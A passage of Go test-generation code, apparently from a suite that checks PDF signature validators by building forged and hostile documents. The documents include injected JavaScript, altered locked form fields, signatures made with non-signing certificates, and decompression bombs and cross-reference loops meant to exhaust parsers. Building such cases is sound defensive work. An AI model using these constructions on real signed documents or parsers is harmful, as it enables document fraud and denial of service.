			return attack(ClassDocMDP, b, "annotation added over a blank margin", doc, err, Evidence{Renders: true})
		},
		func() ([]Case, error) {
			cat, err := ObjectBody(b.PDF, root)
			if err != nil {
				return nil, err
			}
			cat = strings.Replace(cat, "<<", "<< /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", 1)
			doc, err := Append(b.PDF, Update{Objects: map[int]string{root: cat}})
			return attack(ClassDocMDP, b, "JavaScript /OpenAction added to the catalog", doc, err, Evidence{})
		},
	}
	if !b.VN {
		parts = append(parts, func() ([]Case, error) {
			// A third page; the page tree is testpdf.Make's (object 2).
			pages, err := ObjectBody(b.PDF, 2)
			if err != nil {
				return nil, err
			}
			pages = regexp.MustCompile(`/Count\s+[0-9]+`).ReplaceAllLiteralString(pages, "/Count 3")
			pages = strings.Replace(pages, "/Kids [", fmt.Sprintf("/Kids [%d 0 R ", n), 1)
			doc, err := Append(b.PDF, Update{Objects: map[int]string{
				2:     pages,
				n:     fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /FK %d 0 R >> >> /Contents %d 0 R >>", n+2, n+1),
				n + 1: Stream("", forgedContent("FK")),
				n + 2: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
			}})
			return attack(ClassDocMDP, b, "page added in front", doc, err, Evidence{Shows: ForgedText})
		})
	}
	if b.Certify == 1 {
		parts = append(parts, func() ([]Case, error) {
			doc, err := p.SignField(b.PDF, FieldSig{Cred: p.Seal, Field: "Signature2"})
			return attack(ClassDocMDP, b, "second signature on a document certified P=1", doc, err, Evidence{Signer: p.Seal.Cert.Subject.CommonName}, fieldOf(b))
		})
		if b.Form {
			parts = append(parts, func() ([]Case, error) {
				objs, err := refill(b.PDF, FieldNote, "Da tiep nhan", FieldAppearance(240, 25, "Da tiep nhan", false))
				if err != nil {
					return nil, err
				}
				doc, err := Append(b.PDF, Update{Objects: objs})
				return attack(ClassDocMDP, b, "empty field filled on a document certified P=1", doc, err, Evidence{Renders: true})
			})
		}
	} else {
		parts = append(parts, func() ([]Case, error) {
			// A new text field with a widget on page 1.
			body, err := withAnnot(page.Body, fmt.Sprintf("%d 0 R", n))
			if err != nil {
				return nil, err
			}
			objs := map[int]string{
				page.ID: body,
				n + 1:   appearance(240, 25, "Ghi chu moi", false, fmt.Sprintf("%d 0 R", n+2)),
				n + 2:   "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
			}
			if err := addField(b.PDF, objs, n, fmt.Sprintf("<< /Type /Annot /Subtype /Widget /FT /Tx /T (added) /V (Ghi chu moi) /Rect [60 20 300 45] /F 4 /P %d 0 R /DA (/Helv 12 Tf 0 g) /AP << /N %d 0 R >> >>", page.ID, n+1)); err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: objs})
			return attack(ClassDocMDP, b, "form field added", doc, err, Evidence{Renders: true})
		})
	}
	return collect(parts...)
}

// fieldOf returns the field of a base's (first) signature.
func fieldOf(b *Base) string {
	sigs, err := Signatures(b.PDF)
	if err != nil || len(sigs) == 0 {
		return ""
	}
	return sigs[0].Field
}

func fieldMDP(_ *PKI, b *Base) ([]Case, error) {
	if !strings.HasPrefix(b.Name, "kyso form /Lock") && !strings.HasPrefix(b.Name, "kyso form FieldMDP") {
		return nil, nil
	}
	parts := []func() ([]Case, error){func() ([]Case, error) {
		objs, err := refill(b.PDF, FieldAmount, "9999999", FieldAppearance(160, 25, "9999999", true))
		if err != nil {
			return nil, err
		}
		doc, err := Append(b.PDF, Update{Objects: objs})
		return attack(ClassFieldMDP, b, "locked field changed (amount 100 to 9999999)", doc, err, Evidence{Renders: true})
	}}
	if strings.HasSuffix(b.Name, "All") {
		parts = append(parts, func() ([]Case, error) {
			objs, err := refill(b.PDF, FieldNote, "Da tiep nhan", FieldAppearance(240, 25, "Da tiep nhan", false))
			if err != nil {
				return nil, err
			}
			doc, err := Append(b.PDF, Update{Objects: objs})
			return attack(ClassFieldMDP, b, "empty field filled while every field is locked", doc, err, Evidence{Renders: true})
		})
	}
	return collect(parts...)
}

func nonSigning(p *PKI, b *Base) ([]Case, error) {
	switch {
	case strings.HasPrefix(b.Name, "Hanoi"):
		return signedBy(p, ClassNonSigning, b, "signature added with a tls-client certificate of kyso's CA", p.TLSClient)
	case b.Name != "kyso B-T":
		return nil, nil
	}
	var parts []func() ([]Case, error)
	for _, c := range []struct {
		name string
		cred model.Key
	}{
		{"tls-client certificate (EKU clientAuth) of kyso's CA", p.TLSClient},
		{"tls-server certificate (EKU serverAuth)", p.TLSServer},
		{"OCSP responder certificate (EKU OCSPSigning)", p.OCSPResponder},
		{"time-stamping unit certificate (EKU timeStamping)", p.TSAUnit},
	} {
		parts = append(parts, func() ([]Case, error) {
			return signedBy(p, ClassNonSigning, b, "second signature with a "+c.name, c.cred)
		})
	}
	parts = append(parts, func() ([]Case, error) {
		ca := p.CAAsSigner
		doc, err := ReplaceCMS(b.PDF, 0, HandCMS{Key: ca.Signer, SID: ca.Cert, Certs: []*x509.Certificate{ca.Cert, p.Root}, ESS: ca.Cert}.Make)
		return attack(ClassNonSigning, b, "signature re-made with the issuing CA's key (keyCertSign only)", doc, err, Evidence{Signer: ca.Cert.Subject.CommonName})
	})
	return collect(parts...)
}

func bombs(_ *PKI, b *Base) ([]Case, error) {
	if b.Name != "kyso B-T" && !strings.HasPrefix(b.Name, "Hanoi") {
		return nil, nil
	}
	page, forged, _, err := forgedPage(b.PDF, b, true)
	if err != nil {
		return nil, err
	}
	root, err := RootID(b.PDF)
	if err != nil {
		return nil, err
	}
	cat, err := ObjectBody(b.PDF, root)
	if err != nil {
		return nil, err
	}
	n, err := Size(b.PDF)
	if err != nil {
		return nil, err
	}
	with := func(extra map[int]string) map[int]string {
		m := map[int]string{}
		for k, v := range forged {
			m[k] = v
		}
		for k, v := range extra {
			m[k] = v
		}
		return m
	}
	bomb := func(name string, doc []byte, err error) func() ([]Case, error) {
		return func() ([]Case, error) {
			cs, err := attack(ClassBomb, b, name, doc, err, Evidence{})
			for i := range cs {
				cs[i].MayRefuse = true
			}
			return cs, err
		}
	}
	zeros := ZlibZeros(1024)
	var parts []func() ([]Case, error)
	{
		body := fmt.Sprintf("<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream", len(zeros), zeros)
		doc, err := Append(b.PDF, Update{Objects: map[int]string{page.Contents: body}})
		parts = append(parts, bomb("page content replaced by 1 GiB of deflated zeros", doc, err))
	}
	{
		pg, err := withContents(page.Body, fmt.Sprintf("%d 0 R", page.Contents))
		if err != nil {
			return nil, err
		}
		doc, err := Append(b.PDF, Update{Form: XRefStream, Objects: forged, Packed: map[int]string{page.ID: pg},
			ObjStmDict: "/N 1 /First 4 /Filter /FlateDecode", ObjStmData: zeros})
		parts = append(parts, bomb("page dictionary in an object stream of 1 GiB of deflated zeros", doc, err))
	}
	{
		doc, err := Append(b.PDF, Update{Objects: with(map[int]string{root: strings.Replace(cat, "<<", "<< /X "+strings.Repeat("[", 100_000), 1)})})
		parts = append(parts, bomb("catalog with 100k nested arrays", doc, err))
	}
	{
		doc, err := Append(b.PDF, Update{Objects: with(map[int]string{root: strings.Replace(cat, "<<", "<< /X "+strings.Repeat("<< /A ", 100_000), 1)})})
		parts = append(parts, bomb("catalog with 100k nested dictionaries", doc, err))
	}
	{
		m := with(nil)
		for id := n; id < n+100_000; id++ {
			m[id] = "null"
		}
		doc, err := Append(b.PDF, Update{Objects: m})
		parts = append(parts, bomb("100k objects in one update", doc, err))
	}
	{
		doc, err := Append(b.PDF, Update{Objects: forged, Size: 1_000_000_000})
		if err == nil {
			doc, err = claimEntries(doc, 1_000_000_000)
		}
		parts = append(parts, bomb("table and trailer claiming 1e9 objects", doc, err))
	}
	{
		doc, err := Append(b.PDF, Update{Objects: forged, PrevSelf: true})
		parts = append(parts, bomb("table whose /Prev is itself", doc, err))
	}
	{
		doc, err := Append(b.PDF, Update{Form: XRefStream, Objects: forged, PrevSelf: true})
		parts = append(parts, bomb("xref stream whose /Prev is itself", doc, err))
	}
	{
		doc, err := prevLoop(b.PDF, forged)
		parts = append(parts, bomb("two tables each the other's /Prev", doc, err))
	}
	if !b.VN {
		// A page tree whose walk explodes: 40 levels, each listing the
		// next twice (2^40 paths), over page 1.
		m := with(nil)
		for i := 0; i < 40; i++ {
			m[n+i] = fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count 2 >>", n+i+1, n+i+1)
		}
		m[n+40] = fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", page.ID)
		m[2] = fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", n)
		doc, err := Append(b.PDF, Update{Objects: m})
		parts = append(parts, bomb("page tree with 2^40 paths", doc, err))

		loop, err := Append(b.PDF, Update{Objects: with(map[int]string{2: fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R 2 0 R] /Count 2 >>", page.ID)})})
		parts = append(parts, bomb("page tree that contains itself", loop, err))
	}
	return collect(parts...)
}

// claimEntries rewrites the first subsection header of doc's last table to
// claim count entries.
func claimEntries(doc []byte, count int) ([]byte, error) {
	x, err := lastStartxref(doc)
	if err != nil {
		return nil, err
	}
	i := int(x) + len("xref\n")
	j := bytes.IndexByte(doc[i:], '\n')
	if j < 0 || len(strings.Fields(string(doc[i:i+j]))) != 2 {
		return nil, errors.New("no subsection header after xref")
	}
	out := bytes.Clone(doc[:i])
	out = append(out, fmt.Sprintf("%s %d", strings.Fields(string(doc[i : i+j]))[0], count)...)
	return append(out, doc[i+j:]...), nil
}

// lastStartxref returns the offset the last startxref of doc names.
func lastStartxref(doc []byte) (int64, error) {
	m := startxrefTail.FindSubmatch(doc)
	if m == nil {
		return 0, errors.New("no startxref at the end of the document")
	}
	return strconv.ParseInt(string(m[1]), 10, 64)
}

// prevLoop appends two updates to doc, the first defining objs, each
// table's /Prev the other.
func prevLoop(doc []byte, objs map[int]string) ([]byte, error) {
	placeholder := int64(9_999_999_999)
	first, err := Append(doc, Update{Objects: objs, Prev: &placeholder})
	if err != nil {
		return nil, err
	}
	a, err := lastStartxref(first)
	if err != nil {
		return nil, err
	}
	in, err := readInfo(doc)
	if err != nil {
		return nil, err
	}
	size := in.size
	for id := range objs {
		size = max(size, id+1)
	}
	b := len(first)
	out := fmt.Appendf(bytes.Clone(first), "xref\n0 0\ntrailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", size, in.root, in.extra, a, b)
	i := bytes.LastIndex(out[:len(first)], []byte("/Prev 9999999999"))
	copy(out[i:], fmt.Sprintf("/Prev %010d", b))
	return out, nil
}

// decodeHex decodes hexadecimal digits (an odd last digit is padded).
func decodeHex(s string) ([]byte, error) {
	if len(s)%2 == 1 {
		s += "0"
	}
	out := make([]byte, len(s)/2)
	for i := range out {
		v, err := strconv.ParseUint(s[2*i:2*i+2], 16, 8)
		if err != nil {
			return nil, err
		}
		out[i] = byte(v)
	}
	return out, nil
}

func controls(p *PKI, b *Base) ([]Case, error) {
	control := func(name string, doc []byte, err error) func() ([]Case, error) {
		return func() ([]Case, error) {
			if err != nil {
				return nil, fmt.Errorf("%s: %w", name, err)
			}
			ev := Evidence{Page: 1, OnBlank: !bytes.Equal(doc, b.PDF)}
			return []Case{{Name: name + " / " + b.Name, Class: ClassControl, Base: b, PDF: doc, Evidence: ev}}, nil
		}
	}
	if b.ShadowID != 0 {
		// The shadow document is the attacker's own: its second
		// definition of object 4, which no table lists, makes a repaired
		// reading differ from the table's even before any update. The
		// suite neither requires nor forbids a green verdict for it.
		return nil, nil
	}
	parts := []func() ([]Case, error){control("unmodified", b.PDF, nil)}
	if b.Certify != 1 && !strings.HasSuffix(b.Name, "FieldMDP All") {
		// A visible signature over a blank area; invisible on the scanned
		// decision, whose every point is signed content.
		opts := pades.Options{Level: pades.LevelBT, Rect: [4]float64{330, 130, 560, 180}}
		switch {
		case strings.HasPrefix(b.Name, "Hanoi"):
			opts.Rect = [4]float64{330, 15, 560, 55}
		case b.VN:
			opts.Rect = [4]float64{}
		}
		doc, err := p.Sign(b.PDF, p.Seal, opts)
		parts = append(parts, control("honest second signature", doc, err))
	}
	if b.Form && b.Certify != 1 && !strings.HasSuffix(b.Name, "All") {
		objs, err := refill(b.PDF, FieldNote, "Da tiep nhan", FieldAppearance(240, 25, "Da tiep nhan", false))
		if err != nil {
			return nil, err
		}
		doc, err := Append(b.PDF, Update{Objects: objs})
		parts = append(parts, control("empty field over a blank area filled", doc, err))
		if b.Name == "kyso form" || b.Name == "kyso form certified P=2" {
			ap, field := split(objs, FieldNote)
			doc, err := Append(b.PDF, Update{Form: Hybrid, Hidden: field, Objects: ap})
			parts = append(parts, control("empty field filled through a hybrid /XRefStm update", doc, err))
			doc, err = Append(b.PDF, Update{Form: XRefStream, Objects: ap, Packed: field})
			parts = append(parts, control("empty field filled, the field in an object stream of an xref stream update", doc, err))
		}
	}
	return collect(parts...)
}

// HostileCases returns internal/hostilepdf's damaged and hostile documents
// (unterminated and deeply nested objects, looping and oversized
// cross-reference data, decompression bombs, object-stream tricks, absurd
// signature dictionaries) as resource bombs: none signed, none may be
// valid, each may be refused as unreadable.
func HostileCases() []Case {
	base := &Base{Name: "internal/hostilepdf"}
	var out []Case
	for _, h := range hostilepdf.Cases() {
		out = append(out, Case{Name: h.Name + " / " + base.Name, Class: ClassBomb, Base: base, PDF: h.PDF, MayRefuse: true})
	}
	return out
}
